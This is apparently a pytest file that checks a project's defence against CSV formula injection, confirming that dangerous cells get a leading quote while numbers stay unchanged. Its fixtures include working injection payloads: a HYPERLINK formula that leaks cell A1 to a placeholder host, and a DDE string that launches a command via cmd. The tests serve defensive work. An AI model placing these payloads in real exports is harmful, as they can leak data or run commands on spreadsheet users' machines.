"""CSV cells a spreadsheet would evaluate (issue 26): a text starting with =, +, -, @, tab or CR
is written with a leading ' (shown as text by Excel, LibreOffice, Google Sheets — the OWASP
"CSV injection" rule); numbers, negative ones too, are written unchanged."""

from __future__ import annotations

import csv
import math
from concurrent.futures import ThreadPoolExecutor

import pytest

from profilegen.studies.sweep import csv_text, parse_sweep_spec, run_sweep, write_table

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "-", "+"])
def test_a_text_a_spreadsheet_would_evaluate_gets_a_quote(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value, text", [(-1.05e-06, "-1.05e-06"), (-3, "-3"), (2.5, "2.5"), ("-0.5", "-0.5"),
                                         ("+7", "+7"), ("1e-3", "1e-3"), ("plain", "plain"), ("a=b", "a=b"),
                                         (None, ""), (True, "true")])
def test_numbers_and_harmless_texts_are_unchanged(value, text):
    assert csv_text(value) == text


def test_write_table_quotes_texts_and_keeps_negative_numbers_numbers(tmp_path):
    rows = [{"name": FORMULA, "x": -1.05e-06, "n": -4, "msg": "@evil"}, {"name": "ok", "x": 0.5, "n": 1, "msg": None}]
    path = write_table(rows, ["name", "x", "n", "msg"], tmp_path / "t.csv")
    with path.open(newline="") as f:
        back = list(csv.DictReader(f))
    assert back[0]["name"] == "'" + FORMULA and back[0]["msg"] == "'@evil"
    assert float(back[0]["x"]) == -1.05e-06 and int(back[0]["n"]) == -4  # still numbers for the spreadsheet
    assert back[1] == {"name": "ok", "x": "0.5", "n": "1", "msg": ""}


class _Stub:
    pass


def test_a_string_grid_value_lands_quoted_in_results_csv_and_as_is_in_the_journal(tmp_path):
    spec = parse_sweep_spec({"name": "t", "gearset": "default", "scene": "sketch",
                             "grid": {"description": [FORMULA, "-note"]}})
    out = tmp_path / "s"
    with ThreadPoolExecutor(max_workers=1) as ex:
        res = run_sweep(spec, out, executor=ex, designer=lambda gs, *, scene: _Stub(), figure=False)
    assert [r["description"] for r in res.rows] == [FORMULA, "-note"]  # the table in memory: the values
    with (out / "results.csv").open(newline="") as f:
        back = list(csv.DictReader(f))
    assert [r["description"] for r in back] == ["'" + FORMULA, "'-note"]
    assert all(not r[c].startswith(("=", "+", "@")) for r in back for c in r if r[c] and not _number(r[c]))


def _number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False
